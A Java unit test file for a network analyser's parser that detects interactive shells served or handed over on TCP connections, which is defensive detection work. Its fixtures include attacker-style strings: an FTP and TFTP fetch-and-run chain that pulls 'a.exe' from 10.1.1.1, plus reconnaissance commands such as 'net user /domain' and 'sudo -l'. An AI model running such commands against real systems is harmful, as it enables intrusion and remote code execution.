package io.auscult.core.protocol.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.auscult.core.event.ConnectionId;
import io.auscult.core.protocol.Direction;
import io.auscult.core.protocol.ParserScript;
import io.auscult.core.protocol.Probe.Verdict;
import io.auscult.core.protocol.StreamView;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ShellParserTest {
    private static ParserScript tcp() {
        return ParserScript.tcp().ports(40_000, 4444);
    }

    private static List<String> events(ParserScript script) {
        return script.runEveryWay(new ShellParser()).events();
    }

    private static Verdict probe(String first) {
        byte[] bytes = first.getBytes(StandardCharsets.US_ASCII);
        return ShellParser.PROTOCOL
                .probe()
                .probe(new StreamView().wrap(bytes, 0, bytes.length, Direction.RESP, false, new ConnectionId()));
    }

    @Test
    void shouldTellAShellThatIsServed() {
        assertThat(events(tcp().resp(
                                "Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Windows\\system32>")
                        .orig("net user /domain\n")))
                .containsExactly("oddity@2 protocol=shell name=shell_served detail=net outcome=success");
    }

    @Test
    void shouldTellAShellInTheMiddleOfAConnection() {
        assertThat(events(tcp().resp("\r\nD:\\TOOLS>").orig("start a.exe\n").resp("start a.exe\r\n")))
                .containsExactly("oddity@2 protocol=shell name=shell_served detail=start outcome=success");
    }

    @Test
    void shouldTellAShellThatIsHandedOver() {
        assertThat(events(tcp().orig("bash: no job control in this shell\n")
                        .orig("web@srv-web:~$ ")
                        .resp("sudo -l\n")))
                .containsExactly("oddity@3 protocol=shell name=shell_handed_over detail=sudo outcome=success");
    }

    @Test
    void shouldTellAShellWithoutAPromptByItsAnswer() {
        assertThat(events(tcp().orig("id\n").resp("uid=0(root) gid=0(root) groups=0(root)\n")))
                .containsExactly("oddity@2 protocol=shell name=shell_served detail=id outcome=success");
    }

    @Test
    void shouldTellAProgramThatIsFetchedBlindly() {
        assertThat(events(tcp().orig("echo open 10.1.1.1 21 > o & ftp -n -s:o & a.exe\r\n")))
                .containsExactly("oddity@1 protocol=shell name=shell_served detail=echo");
        assertThat(events(tcp().orig("tftp -i 10.1.1.1 GET a.exe\n"))).hasSize(1);
    }

    @Test
    void shouldWantAKnownCommandBesideABarePrompt() {
        assertThat(events(tcp().resp("# ").orig("uname -a\n"))).hasSize(1);
        assertThat(events(tcp().resp("# ").orig("MOVE 12\n"))).isEmpty();
    }

    @Test
    void shouldLeaveATranscriptThatIsSentAsAFileAlone() {
        assertThat(
                        events(
                                tcp().orig(
                                                "Microsoft Windows [Version 10.0.1]\r\n\r\nC:\\>dir\r\n Volume in drive C\r\nC:\\>exit\r\n")))
                .isEmpty();
    }

    @Test
    void shouldLeaveTalkAlone() {
        assertThat(events(
                        tcp().orig("echo one\n").resp("echo one\n").orig("ls\n").resp("ls\n")))
                .isEmpty();
        assertThat(events(tcp().orig("hello\n").resp("jan@example.org wrote: a# b\n")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "C:\\>",
                "PS C:\\Users\\a> ",
                "\r\nC:\\WINNT\\system32>",
                "root@box:/tmp# ",
                "[root@box ~]# ",
                "sh-5.1$ ",
                "id\n"
            })
    void shouldKnowAShellByItsFirstBytes(String first) {
        assertThat(probe(first)).isEqualTo(Verdict.YES);
    }

    @ParameterizedTest
    @ValueSource(strings = {"C:\\", "$ ", "start it\n", "\r\n", "Micro"})
    void shouldWaitForMore(String first) {
        assertThat(probe(first)).isEqualTo(Verdict.UNSURE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"\u0001\u0002", "a line of more than sixty four letters that nobody types by hand, is it not?\n"
            })
    void shouldLeaveOthersAlone(String first) {
        assertThat(probe(first)).isEqualTo(Verdict.NO);
    }
}
